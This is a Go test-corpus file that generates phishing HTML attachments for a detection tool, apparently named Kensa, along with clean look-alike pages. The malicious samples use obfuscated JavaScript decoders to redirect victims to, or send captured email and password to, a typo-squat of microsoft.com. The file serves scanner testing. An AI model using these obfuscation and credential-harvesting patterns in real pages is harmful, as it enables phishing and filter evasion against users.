package corpus

import (
	"encoding/base64"
	"slices"
	"strconv"
	"strings"
)

// HTML attachments whose script computes its target as kits in the wild
// do, past the one-expression folding of htmlfold.go: decoder functions of
// several statements (declarations, a for, while or do-while loop building
// the string, a return), loops at the top of the script, parseInt, Math
// and toString(radix) in the arithmetic of character codes, nested
// objects and arrays, destructuring, templates with code in ${},
// Array.from and reduce, padStart, String.raw and reversed base64. Each
// target is a typo-squat of microsoft.com that is nowhere in the page's
// bytes, so the lookalike finding proves Kensa computed it; each page was
// run in Chromium (the corpus's browser test) to check that it goes there.
// Beside them, honest pages that use the same constructs.

// kitLogin is a kit's login with a form and no action: the script sets it.
const kitLogin = `<div class="box"><form id="lf" action="" method="post"><input type="email" name="u" placeholder="Email">` +
	`<input type="password" name="p" placeholder="Password"><button>Sign in</button></form></div>`

// jsString escapes s for a double-quoted JavaScript literal.
func jsString(s string) string {
	return strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s)
}

// shifted is s with every character code moved by d.
func shifted(s string, d int) string {
	b := []byte(s)
	for i := range b {
		b[i] = byte(int(b[i]) + d)
	}
	return string(b)
}

// base36Words writes each "-"-separated word of s as the number whose
// toString(36) it is.
func base36Words(s string) string {
	var out []string
	for _, w := range strings.Split(s, "-") {
		n, err := strconv.ParseInt(w, 36, 64)
		if err != nil {
			panic(err)
		}
		out = append(out, strconv.FormatInt(n, 10))
	}
	return strings.Join(out, ", ")
}

func htmlKitCases() []officeCase {
	redirectURL := "https://" + redirectLookalike + "/common/oauth2/authorize?client_id=4471"
	gateURL := "https://" + redirectLookalike + "/owa/auth.php"
	hexOf := func(s string) string {
		var b strings.Builder
		for i := 0; i < len(s); i++ {
			b.WriteString(strconv.FormatInt(int64(s[i])+0x100, 16)[1:])
		}
		return b.String()
	}
	reversed := func(s string) string {
		b := []byte(s)
		slices.Reverse(b)
		return string(b)
	}
	onClick := func(send string) string {
		return `document.getElementById("submit-btn").addEventListener("click", function (ev) {` + "\r\n" +
			`  ev.preventDefault();` + "\r\n" +
			`  var data = "ai=" + encodeURIComponent(document.getElementById("ai").value) + "&pr=" + encodeURIComponent(document.getElementById("pr").value);` + "\r\n" +
			"  " + send + "\r\n" +
			`});`
	}
	lookalike := []string{"html-redirect-attachment", "lookalike-domain"}
	phish := []string{"html-credential-form", "lookalike-domain"}
	return []officeCase{
		htmlCase("html-kit-decoder-for-lookalike", "HTML attachment whose decoder function of several statements (a declaration, a for loop shifting each char code, a return) turns a literal into the typo-squat of microsoft.com it sends the window to",
			"Document_5520.html", loadingPage(`function _0x3f1a(s) {`+"\r\n"+
				`  var o = "";`+"\r\n"+
				`  for (var i = 0; i < s.length; i++) {`+"\r\n"+
				`    var c = s.charCodeAt(i);`+"\r\n"+
				`    o += String.fromCharCode(c - 2);`+"\r\n"+
				`  }`+"\r\n"+
				`  return o;`+"\r\n"+
				`}`+"\r\n"+
				`window.location.href = _0x3f1a("`+jsString(shifted(redirectURL, 2))+`");`), lookalike...),
		htmlCase("html-kit-while-xor-lookalike", "HTML attachment that decodes, in a while loop at the top of its script, char codes XOR-ed with a key into the typo-squat of microsoft.com it sends the window to (location.assign)",
			"Fax_5520.html", loadingPage(`var k = [`+codesOf(redirectURL, func(_ int, c byte) int { return int(c ^ 0x1f) })+`], i = 0, u = "";`+"\r\n"+
				`while (i < k.length) {`+"\r\n"+
				`  u += String.fromCharCode(k[i] ^ 0x1f);`+"\r\n"+
				`  i++;`+"\r\n"+
				`}`+"\r\n"+
				`setTimeout(function () { location.assign(u); }, 150);`), lookalike...),
		htmlCase("html-kit-dowhile-parseint-lookalike", "HTML attachment whose decoder function reads hex pairs with parseInt(h.substr(p, 2), 16) in a do-while loop: the typo-squat of microsoft.com it sends the top window to",
			"Remittance_5520.html", loadingPage(`function hx(h) {`+"\r\n"+
				`  var r = "", p = 0;`+"\r\n"+
				`  do {`+"\r\n"+
				`    r += String.fromCharCode(parseInt(h.substr(p, 2), 16));`+"\r\n"+
				`    p += 2;`+"\r\n"+
				`  } while (p < h.length);`+"\r\n"+
				`  return r;`+"\r\n"+
				`}`+"\r\n"+
				`top.location = hx("`+hexOf(redirectURL)+`");`), lookalike...),
		htmlCase("html-kit-base36-lookalike", "HTML attachment that spells the typo-squat of microsoft.com it sends the window to as numbers written in base 36 (n.toString(36))",
			"Invoice_5520.html", loadingPage(`var w = [`+base36Words(strings.TrimSuffix(redirectLookalike, ".com"))+`].map(function (n) { return n.toString(36); });`+"\r\n"+
				`var host = w.join("-") + ".com";`+"\r\n"+
				`window.location.replace("https://" + host + "/common/oauth2/authorize?client_id=4471");`), lookalike...),
		htmlCase("html-kit-math-push-lookalike", "HTML attachment that decodes char codes with Math.floor(q[i] / 7) in a loop pushing onto an array, joined into the typo-squat of microsoft.com it sends the window to",
			"Payroll_5520.html", loadingPage(`var q = [`+codesOf(redirectURL, func(i int, c byte) int { return int(c)*7 + i%5 })+`];`+"\r\n"+
				`var out = [];`+"\r\n"+
				`for (var i = 0; i < q.length; i++) {`+"\r\n"+
				`  out.push(String.fromCharCode(Math.floor(q[i] / 7)));`+"\r\n"+
				`}`+"\r\n"+
				`var dst = out.join("");`+"\r\n"+
				`setTimeout(function () { window.location.href = dst; }, 100);`), lookalike...),
		htmlCase("html-kit-nested-object-lookalike", "HTML login page with no form whose fetch target is joined from a nested configuration object and an array of arrays (app.cfg.net.scheme, app.routes[0].join(\"/\")): a typo-squat of microsoft.com",
			"Shared_Mailbox_5520.html", phishPage("Outlook", "", phishLogin,
				`var app = {cfg: {net: {scheme: "https", host: ["secure", "micorsoft", "login"]}, tld: "com"}, routes: [["owa", "auth.php"], ["common", "oauth2"]]};`+"\r\n"+
					`var gate = app.cfg.net.scheme + "://" + app.cfg.net.host.join("-") + "." + app.cfg.tld + "/" + app.routes[0].join("/");`+"\r\n"+
					onClick(`fetch(gate, {method: "POST", body: data});`)), phish...),
		htmlCase("html-kit-destructuring-lookalike", "HTML login form whose action the script sets from destructured constants (const {scheme, host, path} = {...}; const [a, b] = [...]): a typo-squat of microsoft.com",
			"Secure_Login_5520.html", phishPage("Sign in", "", kitLogin,
				`const {scheme, host, path} = {scheme: "https://", host: "secure-micorsoft" + "-login.com", path: "/owa/auth.php"};`+"\r\n"+
					`const [a, b] = [scheme + host, path];`+"\r\n"+
					`document.getElementById("lf").action = a + b;`), phish...),
		htmlCase("html-kit-template-code-lookalike", "HTML attachment that sends the window to a template literal whose ${} hold code on constants (${parts.join(\"-\")}, ${t.split(\"\").reverse().join(\"\")}): a typo-squat of microsoft.com",
			"Scan_5520.html", loadingPage(`const parts = ["secure", "micorsoft", "login"];`+"\r\n"+
				`const t = "moc";`+"\r\n"+
				"location.href = `https://${parts.join(\"-\")}.${t.split(\"\").reverse().join(\"\")}/common/oauth2/authorize?client_id=${4400 + 71}`;"), lookalike...),
		htmlCase("html-kit-reversed-base64-lookalike", "HTML attachment that reverses a base64 string, decodes it with decodeURIComponent(escape(window.atob(...))) and sets window[\"loc\" + \"ation\"][\"hr\" + \"ef\"]: a typo-squat of microsoft.com",
			"Voice_Message_5520.html", loadingPage(`var b = "`+reversed(base64.StdEncoding.EncodeToString([]byte(redirectURL)))+`";`+"\r\n"+
				`var u = decodeURIComponent(escape(window.atob(b.split("").reverse().join(""))));`+"\r\n"+
				`window["loc" + "ation"]["hr" + "ef"] = u;`), lookalike...),
		htmlCase("html-kit-string-raw-lookalike", "HTML attachment that writes its target with String.raw and escaped slashes a regular expression strips: a typo-squat of microsoft.com",
			"Statement_5520.html", loadingPage("var r = String.raw`"+strings.NewReplacer("/", `\/`, ".", `\.`).Replace(redirectURL)+"`;\r\n"+
				`location.replace(r.replace(/\\/g, ""));`), lookalike...),
		htmlCase("html-kit-array-from-reduce-lookalike", "HTML login page with no form that sends the password by XMLHttpRequest to an address decoded by Array.from(...).reduce(...) over a shifted string: a typo-squat of microsoft.com",
			"Secure_Message_5520.html", phishPage("Outlook", "", phishLogin,
				`var enc = "`+jsString(shifted(gateURL, 1))+`";`+"\r\n"+
					`var gate = Array.from(enc).reduce(function (acc, ch) { return acc + String.fromCharCode(ch.charCodeAt(0) - 1); }, "");`+"\r\n"+
					onClick(`var x = new XMLHttpRequest(); x.open("POST", gate, true); x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded"); x.send(data);`)), phish...),
		htmlCase("html-kit-padstart-beacon-lookalike", "HTML login page with no form that sends the password with navigator.sendBeacon to an address made of char codes written as %xx by toString(16).padStart(2, \"0\") and decodeURIComponent: a typo-squat of microsoft.com",
			"Shared_File_5520.html", phishPage("OneDrive", "", phishLogin,
				`var c = [`+codesOf(gateURL, func(_ int, c byte) int { return int(c) })+`];`+"\r\n"+
					`var gate = decodeURIComponent(c.map(function (x) { return "%" + x.toString(16).padStart(2, "0"); }).join(""));`+"\r\n"+
					onClick(`navigator.sendBeacon(gate, data);`)), phish...),
		htmlCase("html-kit-write-refresh-lookalike", "HTML attachment that writes with document.write(unescape(...)) a meta refresh whose address a decoder function reads backwards in a while (i--) loop: a typo-squat of microsoft.com",
			"Order_5520.html", "<html><head><title>Order</title></head><body><p>Loading...</p>\r\n<script>\r\n"+
				`function rv(s) { var o = ""; var i = s.length; while (i--) { o += s.charAt(i); } return o; }`+"\r\n"+
				`document.write(unescape("%3Cmeta http-equiv%3D%22refresh%22 content%3D%220%3Burl%3D") + rv("`+reversed(redirectURL)+`") + unescape("%22%3E"));`+"\r\n"+
				"</script></body></html>\r\n", lookalike...),
		htmlCase("html-kit-builder-ternary-lookalike", "HTML login form whose action a builder function of several statements joins from hex-escaped pieces with a ternary in its loop: a typo-squat of microsoft.com",
			"Payment_5520.html", phishPage("Payment", "", kitLogin,
				`var parts = ["\x68\x74\x74\x70\x73", "secure-micorsoft-login\x2ecom", "owa", "auth.php"];`+"\r\n"+
					`function build(p) {`+"\r\n"+
					`  var s = p[0] + "://";`+"\r\n"+
					`  for (var i = 1; i < p.length; i++) {`+"\r\n"+
					`    s += p[i] + (i < p.length - 1 ? "/" : "");`+"\r\n"+
					`  }`+"\r\n"+
					`  return s;`+"\r\n"+
					`}`+"\r\n"+
					`document.forms[0].action = build(parts);`), phish...),
	}
}

// htmlKitClean are honest pages with the same constructs: a saved
// dashboard whose helper functions of several statements format numbers
// and colours (toString(16), padStart, while loops, Math), whose nested
// configuration and template literals build its own API's addresses;
// and a page whose decoder runs only when a button is clicked.
func htmlKitClean() []Sample {
	ok := func(name, about string) Sample { return Sample{Name: name, Clean: true, About: about} }
	var out []Sample
	add := func(s Sample, m mail) { out = append(out, build(s, m)) }
	add(ok("html-saved-dashboard", "a dashboard saved as .html whose helper functions of several statements format numbers and colours (while loops, toString(16), padStart, Math.round), and whose nested configuration, destructuring and templates build its own API's addresses; no password field"),
		mail{subject: "Dashboard", root: multipart("mixed", text("The dashboard, saved as a page.\n"),
			attach("text/html; charset=utf-8", "dashboard.html", []byte("<html><head><meta charset=\"utf-8\"><title>Dashboard</title></head><body><h1>Sales</h1><div id=\"kpi\"></div><table id=\"t\"></table>\r\n<script>\r\n"+
				`var app = {api: {base: "https://api.shop.example.com", paths: [["v2", "sales"], ["v2", "stock"]]}, theme: {accent: [0, 120, 212]}};`+"\r\n"+
				`const {base, paths} = app.api;`+"\r\n"+
				`function thousands(n) { var s = String(n), out = "", i = s.length; while (i > 3) { out = "," + s.substr(i - 3, 3) + out; i -= 3; } return s.substr(0, i) + out; }`+"\r\n"+
				`function hexColour(rgb) { var h = "#"; for (var i = 0; i < rgb.length; i++) { h += rgb[i].toString(16).padStart(2, "0"); } return h; }`+"\r\n"+
				`var total = Math.round(1234567.4);`+"\r\n"+
				"document.getElementById(\"kpi\").innerHTML = `<b style=\"color:${hexColour(app.theme.accent)}\">${thousands(total)} JPY</b>`;\r\n"+
				"fetch(`${base}/${paths[0].join(\"/\")}?month=11`).then(function (r) { return r.json(); }).catch(function () {});\r\n"+
				"</script></body></html>\r\n")))})
	add(ok("html-saved-help-decoder", "a help page saved as .html whose decoder function (a loop reading a reversed string) builds the shop's address only when a button is clicked"),
		mail{subject: "Help", root: multipart("mixed", text("The help page.\n"),
			attach("text/html; charset=utf-8", "help.html", []byte("<html><head><title>Help</title></head><body><h1>Returns</h1><p>Send the item back within 30 days.</p><button id=\"go\">Open the returns page</button>\r\n<script>\r\n"+
				`function rv(s) { var o = ""; var i = s.length; while (i--) { o += s.charAt(i); } return o; }`+"\r\n"+
				`document.getElementById("go").onclick = function () { location.href = rv("snruter/moc.elpmaxe.pohs//:sptth"); };`+"\r\n"+
				"</script></body></html>\r\n")))})
	return out
}
